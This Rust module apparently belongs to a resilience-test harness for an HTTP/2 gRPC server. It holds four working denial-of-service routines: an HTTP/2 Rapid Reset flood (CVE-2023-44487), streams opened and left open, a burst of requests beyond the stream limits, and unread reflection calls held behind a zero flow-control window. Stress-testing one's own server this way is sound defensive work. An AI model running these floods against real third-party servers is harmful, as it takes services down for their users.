//! Streams opened for nothing.

use std::net::SocketAddr;

use anyhow::{Result, ensure};

use super::{PATIENCE, TIME};
use crate::ask::LEGAL_PLAYS;
use crate::frames::{END_HEADERS, END_STREAM, Kind, Raw, frame, head, text, within};

/// Streams opened and reset at once, again and again, on a new connection where one is closed (CVE-2023-44487).
pub(super) async fn rapid_reset(address: SocketAddr) -> Result<String> {
    const PAIRS: u32 = 500;
    let (until, block) = (within(TIME), head(LEGAL_PLAYS, &[]));
    let (mut connections, mut pairs) = (0, 0);
    while tokio::time::Instant::now() < until && connections < 2_000 {
        let mut raw = Raw::open(address, &[]).await?.draining();
        connections += 1;
        for first in (0..100).map(|round| round * PAIRS) {
            let burst: Vec<u8> =
                (first..first + PAIRS).flat_map(|number| pair(number * 2 + 1, &block)).collect();
            if !raw.send(&burst, until).await {
                break;
            }
            pairs += PAIRS;
        }
    }
    Ok(format!("{pairs} resets on {connections} connections"))
}

/// A stream opened, and reset.
fn pair(stream: u32, block: &[u8]) -> Vec<u8> {
    let opened = frame(Kind::Headers, END_HEADERS, stream, block);
    [opened, frame(Kind::Reset, 0, stream, &8_u32.to_be_bytes())].concat()
}

/// As many streams as are allowed, on many connections, each opened and never ended.
pub(super) async fn left_open(address: SocketAddr) -> Result<String> {
    const CONNECTIONS: usize = 50;
    const STREAMS: u32 = 100;
    let (until, block) = (within(TIME), head(LEGAL_PLAYS, &[]));
    let opened: Vec<u8> =
        (0..STREAMS).flat_map(|n| frame(Kind::Headers, END_HEADERS, n * 2 + 1, &block)).collect();
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS {
        let mut raw = Raw::open(address, &[]).await?.draining();
        raw.send(&opened, until).await;
        held.push(raw);
    }
    tokio::time::sleep_until(until).await;
    Ok(format!("{} streams on {CONNECTIONS} connections, held", CONNECTIONS * STREAMS as usize))
}

/// Thousands of whole calls at once on each connection, far more than the server allows.
pub(super) async fn too_many(address: SocketAddr) -> Result<String> {
    const STREAMS: u32 = 5_000;
    let (until, block) = (within(TIME), head(LEGAL_PLAYS, &[]));
    let flags = END_HEADERS | END_STREAM;
    let opened: Vec<u8> = (0..STREAMS).flat_map(|n| frame(Kind::Headers, flags, n * 2 + 1, &block)).collect();
    let mut streams = 0;
    for _ in 0..10 {
        let mut raw = Raw::open(address, &[]).await?.draining();
        streams += if raw.send(&opened, until).await { STREAMS } else { 0 };
    }
    Ok(format!("{streams} streams on 10 connections"))
}

/// Questions to reflection, whose answers are files, three a call on as many calls as there may be, by clients that take nothing.
pub(super) async fn reflection_unread(address: SocketAddr) -> Result<String> {
    const CONNECTIONS: usize = 80;
    const CALLS: u32 = 100;
    let until = within(PATIENCE);
    let block = head("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", &[]);
    // Fields 1 and 4: a host, which comes back, and a name in a file.
    let (host, name) = (text(&"h".repeat(120)), text("tavli.plakoto.v1.RulesService"));
    let question = [&[0x0A][..], &host, &[0x22], &name].concat();
    let message = [&[0, 0, 0, 0, question.len() as u8][..], &question].concat().repeat(3);
    let call = |number: u32| {
        let opened = frame(Kind::Headers, END_HEADERS, number * 2 + 1, &block);
        [opened, frame(Kind::Data, 0, number * 2 + 1, &message)].concat()
    };
    let opened: Vec<u8> = (0..CALLS).flat_map(call).collect();
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS {
        // Setting 4 is the window of a call.
        let mut raw = Raw::open(address, &[(4, 0)]).await?.draining();
        ensure!(raw.send(&opened, until).await, "a connection was lost");
        held.push(raw);
    }
    tokio::time::sleep(TIME).await;
    Ok(format!("{} calls of {} bytes each, held", CONNECTIONS * CALLS as usize, message.len()))
}
